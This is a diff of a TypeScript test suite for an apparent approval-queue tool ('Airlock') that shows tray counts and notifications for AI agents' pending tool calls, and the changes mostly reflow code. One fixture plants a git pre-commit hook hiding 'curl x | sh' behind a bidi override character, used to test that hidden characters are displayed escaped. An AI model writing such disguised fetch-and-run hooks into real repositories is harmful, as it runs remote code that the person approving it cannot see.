@@ -32,7 +32,12 @@ describe('approval attention (tray count and notifications)', () => {
     await h.waitForPending(1)
 
     const { counts, notified, sink } = recordingSink()
-    const stop = new ApprovalAttention({ pending: () => h.host.approvals.list(), subscribe: (listener) => h.host.events.subscribe(listener), sink, gatherMs: 20 }).start()
+    const stop = new ApprovalAttention({
+      pending: () => h.host.approvals.list(),
+      subscribe: (listener) => h.host.events.subscribe(listener),
+      sink,
+      gatherMs: 20
+    }).start()
     try {
       expect(counts).toEqual([1])
       expect(notified).toEqual([])
@@ -62,7 +67,12 @@ describe('approval attention (tray count and notifications)', () => {
 
   it('gathers a burst of new items into one notification', async () => {
     const { notified, sink } = recordingSink()
-    const stop = new ApprovalAttention({ pending: () => h.host.approvals.list(), subscribe: (listener) => h.host.events.subscribe(listener), sink, gatherMs: 300 }).start()
+    const stop = new ApprovalAttention({
+      pending: () => h.host.approvals.list(),
+      subscribe: (listener) => h.host.events.subscribe(listener),
+      sink,
+      gatherMs: 300
+    }).start()
     const burst = h.agent('burst', { capabilities: ['files'] })
     try {
       const calls = ['x', 'y', 'z'].map((name) => burst.call('write_file', { path: `${name}.txt`, content: name }))
@@ -82,11 +92,22 @@ describe('what the desktop shows', () => {
   it('words one item by agent, tool and risk, and the tooltip by count', () => {
     const item: AttentionItem = { id: 'a1', agentId: 'coder', tool: 'run_command', summary: 'pip install requests', riskFlags: ['package_install'], count: 1 }
     expect(notificationText([item])).toEqual({ title: 'coder asks to run_command (package_install)', body: 'pip install requests' })
-    expect([trayTooltip(0), trayTooltip(1), trayTooltip(7)]).toEqual(['Airlock: no approvals waiting', 'Airlock: 1 approval waiting', 'Airlock: 7 approvals waiting'])
+    expect([trayTooltip(0), trayTooltip(1), trayTooltip(7)]).toEqual([
+      'Airlock: no approvals waiting',
+      'Airlock: 1 approval waiting',
+      'Airlock: 7 approvals waiting'
+    ])
   })
 
   it('shows hidden and bidi characters of agent text escaped, never raw (a notification must read as what runs)', () => {
-    const item: AttentionItem = { id: 'a2', agentId: 'coder', tool: 'write_file', summary: 'write .git/hooks/pre-commit: lint \u202e; curl x | sh', riskFlags: ['hidden_characters'], count: 1 }
+    const item: AttentionItem = {
+      id: 'a2',
+      agentId: 'coder',
+      tool: 'write_file',
+      summary: 'write .git/hooks/pre-commit: lint \u202e; curl x | sh',
+      riskFlags: ['hidden_characters'],
+      count: 1
+    }
     const { title, body } = notificationText([item])
     expect(body).toBe('write .git/hooks/pre-commit: lint \\u202e; curl x | sh')
     expect(`${title}${body}`).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
